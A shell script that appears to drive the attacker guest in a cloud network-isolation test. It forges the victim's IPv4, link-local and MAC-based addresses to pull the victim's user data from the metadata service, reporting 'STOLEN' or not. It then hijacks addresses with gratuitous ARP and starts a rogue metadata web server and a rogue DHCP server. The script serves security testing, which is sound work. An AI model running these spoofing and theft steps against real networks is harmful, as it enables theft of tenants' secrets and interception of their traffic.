#!/bin/sh
# the attacker: a guest on a network of its own with DHCP (eth0), on a shared one with the victim (eth1), on one of its
# own without DHCP and without port security, under the victim's MAC (eth2), and on the external network (eth3)
exec > /dev/ttyS0 2>&1
ask() { # NAME SOURCE METADATA-ADDRESS: whose user data is told
    told=$(printf 'GET /latest/user-data HTTP/1.0\r\n\r\n' | timeout "${patience:-60}" nc.openbsd -s "$2" "$3" 80)
    case $told in
        *VICTIMS-SECRE[T]*) echo "RESULT $1: STOLEN" ;;
        *'# the attacker'*) echo "RESULT $1: own" ;;
        *) echo "RESULT $1: nothing" ;;
    esac
}
route() {
    while ip route del 169.254.169.254/32 2>/dev/null; do :; done
    ip route add 169.254.169.254/32 "$@"
}
own_link_local() { ip -6 -o addr show dev "$1" scope link | awk '{ sub("/.*", "", $4); print $4; exit }'; }
md=169.254.169.254 md6=fe80::a9fe:a9fe victim=10.66.0.11
killall udhcpc

route via 10.0.0.2 dev eth0
ask own-network 10.0.0.10 $md
route via 10.66.0.2 dev eth1
ask shared 10.66.0.12 $md
route via 10.66.0.1 dev eth1
ask shared-by-router 10.66.0.12 $md
ask shared-link-local "$(own_link_local eth1)%eth1" $md6%eth1
ip addr add fd00:77::10/64 dev eth2
ask alone-fixed fd00:77::10 $md6%eth2
ask alone-twin @VICTIM_LINK_LOCAL@%eth2 $md6%eth2

patience=8
ip addr add $victim/32 dev eth1
ask shared-forged-by-router $victim $md
route via 10.66.0.2 dev eth1
ask shared-forged $victim $md
ip addr del $victim/32 dev eth1
ip addr add @VICTIM_LINK_LOCAL@/64 dev eth1
ask shared-forged-link-local @VICTIM_LINK_LOCAL@%eth1 $md6%eth1
ip addr del @VICTIM_LINK_LOCAL@/64 dev eth1
ip addr add fd00:77::99/64 dev eth2
ask alone-forged fd00:77::99 $md6%eth2

# the victim's floating IP and the host's gateway, on the external network
ip addr add 172.24.4.66/24 dev eth3
for address in 172.24.4.50 172.24.4.1; do
    ip addr add $address/32 dev eth3
    busybox arping -q -U -c 3 -I eth3 -s $address $address
done
# router, metadata and DHCP on the shared network
mkdir -p /tmp/www/latest; echo rogue > /tmp/www/latest/user-data; busybox httpd -p 80 -h /tmp/www
for address in 10.66.0.1 10.66.0.2 $md; do
    ip addr add $address/32 dev eth1
    busybox arping -q -U -c 3 -I eth1 -s $address $address
done
ip addr add $md6/64 dev eth1
printf 'start 10.66.0.200\nend 10.66.0.210\ninterface eth1\nlease_file /tmp/leases\noption router 10.66.0.12\n' > /tmp/udhcpd
touch /tmp/leases
busybox udhcpd /tmp/udhcpd
frames() {
    :
@FRAMES@
}
frames
echo "ATTACKS-ON"
while frames; do sleep 1; done &
